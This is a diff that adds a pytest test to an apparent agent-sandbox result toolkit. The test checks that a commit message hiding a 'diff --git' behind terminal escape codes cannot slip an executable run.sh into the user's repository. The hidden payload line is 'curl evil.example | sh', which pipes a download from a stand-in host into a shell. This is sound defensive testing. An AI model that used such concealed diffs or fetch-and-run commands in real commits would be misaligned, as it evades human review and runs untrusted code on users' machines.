@@ -190,3 +190,41 @@ def test_no_filter_of_the_agents_runs_while_the_result_is_made(tmp_path):
         assert tar.extractfile("a.txt").read() == b"aaa\n" and ".git" not in tar.getnames()
     assert "Subject: [PATCH] agent" in log.stdout and "+aaa" in log.stdout
     assert not marker.exists()
+
+
+def test_the_kept_patch_shows_no_terminal_escape_and_applies_no_diff_written_in_a_message(tmp_path):
+    """The agent's commit message hides a whole ``diff --git`` (a new executable run.sh) behind terminal
+    escapes: the kept ``<session>.patch`` holds no control character (escaped as ``\\x1b``) and ``git am`` of it
+    commits a.txt only, the message's diff kept as (indented) text. On 3dc4789 the ESC bytes were kept as they
+    were and ``git am`` committed run.sh too (session 19's hostile review, F3)."""
+    from toolkit.agent.environments import collect, result
+
+    user = repo(tmp_path / "user")
+    (user / "a.txt").write_text("a\n")
+    subprocess.run(["git", "-C", str(user), "add", "a.txt"], check=True)
+    subprocess.run(["git", "-C", str(user), "-c", "user.name=u", "-c", "user.email=u@u", "commit", "-qm", "a"],
+                   check=True)
+    start = subprocess.run(["git", "-C", str(user), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.split()
+    copy = tmp_path / "copy"
+    subprocess.run(["git", "clone", "-q", str(user), str(copy)], check=True)
+    (copy / "a.txt").write_text("b\n")
+    message = ("Fix typo in a.txt\n\n\x1b[8m\n---\ndiff --git a/run.sh b/run.sh\nnew file mode 100755\n--- /dev/null\n"
+               "+++ b/run.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n\x1b[0m\x1b[1A\x1b[2K\n")
+    subprocess.run(["git", "-C", str(copy), "-c", "user.name=u", "-c", "user.email=u@u", "commit", "-qam", message],
+                   check=True)
+    made = tmp_path / "made" / "result.tar"
+    made.parent.mkdir()
+    with open(made, "wb") as out:
+        subprocess.run([sys.executable, "-I", "-S", collect.__file__, "tar", str(copy)], stdout=out, check=True)
+    with open(made.with_name("result.patch"), "wb") as out:
+        subprocess.run([sys.executable, "-I", "-S", collect.__file__, "log", str(copy), *start], stdout=out, check=True)
+    line = result.take(user, "s1", made, files={})
+    kept = (user / ".agent" / "results" / "s1.patch").read_bytes()
+    assert b"\x1b" not in kept and b"\\x1b[8m" in kept and "control characters escaped" in line, line
+    subprocess.run(["git", "-C", str(user), "-c", "user.name=u", "-c", "user.email=u@u", "am", "-q",
+                    str(user / ".agent" / "results" / "s1.patch")], check=True, capture_output=True)
+    files = subprocess.run(["git", "-C", str(user), "show", "--name-only", "--format=", "HEAD"], capture_output=True,
+                           text=True).stdout.split()
+    assert files == ["a.txt"] and not (user / "run.sh").exists()
+    said = subprocess.run(["git", "-C", str(user), "log", "-1", "--format=%B"], capture_output=True, text=True).stdout
+    assert " diff --git a/run.sh b/run.sh" in said
